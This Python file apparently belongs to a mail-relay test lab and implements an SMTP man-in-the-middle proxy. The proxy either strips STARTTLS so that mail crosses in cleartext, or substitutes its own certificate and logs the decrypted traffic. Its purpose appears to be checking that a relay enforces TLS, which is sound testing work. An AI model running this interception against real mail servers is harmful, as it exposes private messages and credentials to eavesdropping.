# SPDX-License-Identifier: ISC
"""The enemy on the way: a TCP proxy before an MX that strips STARTTLS, or puts its own certificate there.

Everything that the relay sends through it is kept: `seen_clear` is what crossed without TLS, `stolen` what
was decrypted with the enemy's own key.
"""
import re
import socket
import ssl
import threading


class Proxy:
    """Listens on `here`, forwards to `there`. With a certificate it swaps, without one it strips."""

    def __init__(self, lab, here, there, certificate=None):
        self.there, self.certificate = there, certificate
        self.seen_clear, self.stolen, self.connections = bytearray(), bytearray(), 0
        self.honest = False  # True: passes everything untouched
        self.sockets = []
        self.listener = socket.create_server(here, backlog=128)
        threading.Thread(target=self._accept, daemon=True).start()
        lab.at_end(self.close)

    def _accept(self):
        while True:
            try:
                sock, _ = self.listener.accept()
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self._carry, args=(sock,), daemon=True).start()

    def _carry(self, sock):
        try:
            upstream = socket.create_connection(self.there, 30)
        except OSError:
            sock.close()
            return
        self.sockets += [sock, upstream]
        for each in (sock, upstream):
            each.settimeout(600)
        if self.honest:
            self._pump(sock, upstream)
        elif self.certificate:
            self._swap(sock, upstream)
        else:
            self._strip(sock, upstream)

    def _pump(self, sock, upstream, to_server=None, to_client=None):
        back = threading.Thread(target=copy, args=(upstream, sock, to_client), daemon=True)
        back.start()
        copy(sock, upstream, to_server)
        back.join(600)

    def _strip(self, sock, upstream):
        def note(data):
            self.seen_clear += data
            return re.sub(rb"(?i)STARTTLS", b"XSTARTXX", data)

        def hide(data):
            return re.sub(rb"(?i)250([ -])STARTTLS", rb"250\1XXXXXXXX", data)

        self._pump(sock, upstream, note, hide)

    def _swap(self, sock, upstream):
        """Lets the talk pass to STARTTLS, then makes TLS with both sides itself."""
        try:
            client, server = sock.makefile("rb"), upstream.makefile("rb")
            reply(server, sock)
            while True:
                line = client.readline()
                if not line:
                    return
                self.seen_clear += line
                upstream.sendall(line)
                code = reply(server, sock)
                if line.upper().startswith(b"STARTTLS") and code == b"220":
                    break
            theirs = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            theirs.load_cert_chain(self.certificate.chain_file, self.certificate.key_file)
            mine = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            mine.check_hostname, mine.verify_mode = False, ssl.CERT_NONE
            left = theirs.wrap_socket(sock, server_side=True)
            right = mine.wrap_socket(upstream)
            self.sockets += [left, right]

            def note(data):
                self.stolen += data
                return data

            self._pump(left, right, note)
        except (OSError, ssl.SSLError):
            pass
        finally:
            sock.close()
            upstream.close()

    def close(self):
        try:
            self.listener.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.listener.close()
        for each in self.sockets:
            try:
                each.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def reply(stream, to):
    while True:
        line = stream.readline()
        if not line:
            raise OSError("upstream closed")
        to.sendall(line)
        if line[3:4] != b"-":
            return line[:3]


def copy(source, target, change=None):
    try:
        while True:
            data = source.recv(65536)
            if not data:
                break
            target.sendall(change(data) if change else data)
    except (OSError, ssl.SSLError):
        pass
    for each in (source, target):
        try:
            each.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
